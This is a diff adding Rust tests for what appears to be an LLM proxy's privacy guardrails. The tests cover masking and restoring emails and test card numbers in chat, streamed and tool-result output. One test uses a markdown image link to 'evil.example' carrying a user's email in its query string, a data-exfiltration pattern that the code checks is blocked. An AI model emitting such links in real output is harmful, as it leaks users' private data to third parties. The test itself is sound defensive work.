@@ -503,6 +503,14 @@ fn an_answer_keeps_to_the_policy() {
             .text();
         assert_eq!(got.contains("guardrail_blocked"), blocked, "{got}");
     }
+    let long = json!([{"name": "long", "max_chars": 10, "action": "block"}]);
+    let told = json!({"type": "message", "content": [{"type": "mcp_tool_result", "content": "a long result"}]});
+    let mut asked = ask_of(&long, MESSAGES, &said(MESSAGES, "hi", false));
+    assert_eq!(
+        asked.answer(&told).text(),
+        told.to_string(),
+        "a tool's words"
+    );
     let warned = json!([{"name": "long", "max_chars": 3, "action": "warn"}]);
     let mut asked = ask_of(&warned, CHAT, &said(CHAT, "hi", true));
     let stream = streamed(CHAT, &["hello ", "world"]);
@@ -511,6 +519,199 @@ fn an_answer_keeps_to_the_policy() {
         "hello world"
     );
     assert_eq!(asked.record()[2].as_deref(), Some("long:warn=1"));
+}
+
+#[test]
+fn a_link_around_a_placeholder_is_judged_before_its_value_is_put_back() {
+    let guards = |action: &str| {
+        json!([{"name": "mail", "detect": "EMAIL_ADDRESS", "action": "restore"},
+            {"name": "links", "links": [], "action": action}])
+    };
+    let text = "See ![x](https://evil.example/?q=[EMAIL_1]) and [EMAIL_1].";
+    for path in [CHAT, MESSAGES, RESPONSES] {
+        let said = |stream| said(path, "I am ann@example.com", stream);
+        let got = ask_of(&guards("block"), path, &said(false)).answer(&whole(path, text));
+        assert_eq!(got.header(":status"), Some("400"));
+        let stream = streamed(path, &[text]);
+        let got = ask_of(&guards("block"), path, &said(true)).stream(&stream, 50);
+        assert!(!got.text().contains("evil"), "{}", got.text());
+        let want = "See ![x]([LINK_1]) and ann@example.com.";
+        for cut in 1..text.len() {
+            let (a, b) = text.split_at(cut);
+            let stream = streamed(path, &[a, b]);
+            let got = ask_of(&guards("mask"), path, &said(true)).stream(&stream, 1000);
+            assert_eq!(text_of(path, &got.text()), want, "cut at {cut}");
+        }
+        let mut asked = ask_of(&guards("warn"), path, &said(false));
+        let got = asked.answer(&whole(path, text));
+        let want = whole(path, &text.replace("[EMAIL_1]", "ann@example.com"));
+        assert_eq!(got.text(), want.to_string());
+    }
+}
+
+#[test]
+fn a_text_that_stands_where_its_block_begins_goes_on_in_the_pieces_behind() {
+    let text = "To [EMAIL_1], card 4111 1111 1111 1111.";
+    let want = "To ann@example.com, card [CREDIT_CARD_1].";
+    for path in [MESSAGES, RESPONSES] {
+        for cut in 1..text.len() {
+            let (a, b) = text.split_at(cut);
+            let all = streamed(path, &[b]);
+            let stream = match path {
+                MESSAGES => all.replace(r#""text":"""#, &format!(r#""text":"{a}""#)),
+                _ => {
+                    let begun = all.replace(r#""text":"""#, &format!(r#""text":"{a}""#));
+                    begun.replace(&format!(r#""text":"{b}""#), &format!(r#""text":"{text}""#))
+                }
+            };
+            let mut asked = ask(path, "I am ann@example.com", true);
+            let got = asked.stream(&stream, 1000);
+            assert_eq!(text_of(path, &got.text()), want, "cut at {cut}");
+        }
+    }
+}
+
+#[test]
+fn a_reason_that_says_nothing_ends_no_text() {
+    let stream = streamed(CHAT, &["To [EMA", "IL_1], card 4111 1111 ", "1111 1111."]);
+    let stream = stream.replace(r#""finish_reason":null"#, r#""finish_reason":"""#);
+    let got = ask(CHAT, "I am ann@example.com", true).stream(&stream, 1000);
+    let want = "To ann@example.com, card [CREDIT_CARD_1].";
+    assert_eq!(text_of(CHAT, &got.text()), want);
+}
+
+#[test]
+fn a_placeholder_that_the_client_has_written_is_not_given_to_what_an_answer_holds() {
+    let cards =
+        json!([{"name": "cards", "detect": "CREDIT_CARD", "on": "output", "action": "mask"}]);
+    let body = said(CHAT, "Is it [CREDIT_CARD_1]?", false);
+    let got = ask_of(&cards, CHAT, &body)
+        .answer(&whole(CHAT, CARD))
+        .text();
+    assert!(got.contains("[CREDIT_CARD_2]"), "{got}");
+}
+
+/// What a provider's own tools have said: a card, and a placeholder.
+const TOLD: &str = "[EMAIL_1] 4111111111111111";
+const GETS: &str = "ann@example.com [CREDIT_CARD_1]";
+
+fn blocks() -> Value {
+    json!([
+        {"type": "mcp_tool_result", "tool_use_id": "t", "content": [{"type": "text", "text": TOLD}]},
+        {"type": "code_execution_tool_result", "tool_use_id": "t",
+            "content": {"type": "code_execution_result", "stdout": TOLD, "stderr": "", "return_code": 0}},
+        {"type": "text", "text": "so", "citations": [{"type": "char_location", "cited_text": TOLD, "start_char_index": 4111111111111111_u64}]},
+        {"type": "web_search_tool_result", "content": [{"type": "web_search_result", "title": TOLD,
+            "url": "https://h.example/4111111111111111", "encrypted_content": "4111111111111111"}]},
+    ])
+}
+
+fn items() -> Value {
+    json!([
+        {"id": "a", "type": "local_shell_call", "action": {"type": "exec", "command": ["echo", TOLD]}},
+        {"id": "b", "type": "shell_call", "action": {"commands": ["ls", TOLD]}},
+        {"id": "c", "type": "apply_patch_call", "operation": {"type": "create_file", "path": "p", "diff": TOLD}},
+        {"id": "d", "type": "mcp_call", "arguments": "{}", "output": TOLD},
+        {"id": "e", "type": "code_interpreter_call", "code": "", "outputs": [{"type": "logs", "logs": TOLD}]},
+        {"id": "f", "type": "file_search_call", "results": [{"file_id": "4111111111111111", "text": TOLD}]},
+        {"id": "g", "type": "shell_call_output", "output": [{"stdout": TOLD, "stderr": ""}]},
+    ])
+}
+
+#[test]
+fn what_tools_of_a_provider_have_said_is_guarded_and_gets_its_values_back() {
+    for (path, key, list) in [
+        (MESSAGES, "content", blocks()),
+        (RESPONSES, "output", items()),
+    ] {
+        let answer = json!({"id": "m", "type": "message", key: list});
+        let mut asked = ask(path, "I am ann@example.com", false);
+        let got = asked.answer(&answer).text();
+        assert_eq!(got, answer.to_string().replace(TOLD, GETS));
+    }
+    let event = |event: Value| format!("data: {event}\n\n");
+    let citation = event(json!({"type": "content_block_delta", "index": 0,
+        "delta": {"type": "citations_delta", "citation": {"type": "char_location", "cited_text": TOLD}}}));
+    let got = ask(MESSAGES, "I am ann@example.com", true).stream(&citation, 1000);
+    assert_eq!(got.text(), citation.replace(TOLD, GETS));
+    for (name, whole) in [
+        ("shell_call_command", "command"),
+        ("apply_patch_call_operation_diff", "diff"),
+        ("audio.transcript", "text"),
+    ] {
+        let (a, b) = TOLD.split_at(15);
+        let say = |step: &str, key: &str, text: &str| {
+            event(
+                json!({"type": format!("response.{name}.{step}"), "output_index": 1, "command_index": 0, key: text}),
+            )
+        };
+        let first = if name == "shell_call_command" {
+            say("added", whole, a)
+        } else {
+            say("delta", "delta", a)
+        };
+        let events = [first, say("delta", "delta", b), say("done", whole, TOLD)];
+        let got = ask(RESPONSES, "I am ann@example.com", true).stream(&events.concat(), 1000);
+        let got = events_of(&got.text());
+        let text = |event: &Value| {
+            [whole, "delta"]
+                .map(|key| event[key].as_str().unwrap_or_default().to_owned())
+                .concat()
+        };
+        let (last, deltas) = got.split_last().unwrap();
+        assert_eq!(deltas.iter().map(text).collect::<String>(), GETS, "{name}");
+        assert_eq!(text(last), GETS, "{name}");
+    }
+}
+
+fn events_of(stream: &str) -> Vec<Value> {
+    let data = stream
+        .lines()
+        .filter_map(|line| line.strip_prefix("data: "));
+    data.map(|data| serde_json::from_str(data).unwrap())
+        .collect()
+}
+
+#[test]
+fn a_whole_answer_that_is_json_stays_json() {
+    let guards = json!([
+        {"name": "mail", "detect": ["EMAIL_ADDRESS"], "action": "restore"},
+        {"name": "cards", "detect": ["CREDIT_CARD"], "on": "output", "action": "mask"},
+        {"name": "names", "words": ["Ann"], "action": "restore"},
+    ]);
+    let text = r#" {"card": 4111111111111111, "to": ["[EMAIL_1]", 1.10], "n": "[NAMES_1]"} "#;
+    let want = r#" {"card": "[CREDIT_CARD_1]", "to": ["ann@example.com", 1.10], "n": "Ann"} "#;
+    for path in [CHAT, MESSAGES, RESPONSES] {
+        let mut asked = ask_of(&guards, path, &said(path, "Ann, ann@example.com", false));
+        let got: Value = serde_json::from_str(&asked.answer(&whole(path, text)).text()).unwrap();
+        let got = match path {
+            CHAT => &got["choices"][0]["message"]["content"],
+            MESSAGES => &got["content"][0]["text"],
+            _ => &got["output"][0]["content"][0]["text"],
+        };
+        assert_eq!(got, want);
+    }
+}
+
+#[test]
+fn a_placeholder_of_an_earlier_turn_that_the_provider_remembers_gets_no_value_of_this_one() {
+    for field in ["previous_response_id", "conversation"] {
+        let mut body = said(RESPONSES, "I am bob@example.com", false);
+        body[field] = json!("r-0");
+        let mut asked = ask_of(&guards(), RESPONSES, &body);
+        let input: Value = serde_json::from_str(&asked.body).unwrap();
+        let own = input["input"].as_str().unwrap().trim_start_matches("I am ");
+        assert!(own.len() > "[EMAIL_12345]".len(), "{own}");
+        let got = asked.answer(&whole(RESPONSES, &format!("[EMAIL_1] and {own}")));
+        let want = whole(RESPONSES, "[EMAIL_1] and bob@example.com");
+        assert_eq!(got.text(), want.to_string());
+        body[field] = Value::Null;
+        assert!(
+            ask_of(&guards(), RESPONSES, &body)
+                .body
+                .contains("[EMAIL_1]")
+        );
+    }
 }
 
 #[test]
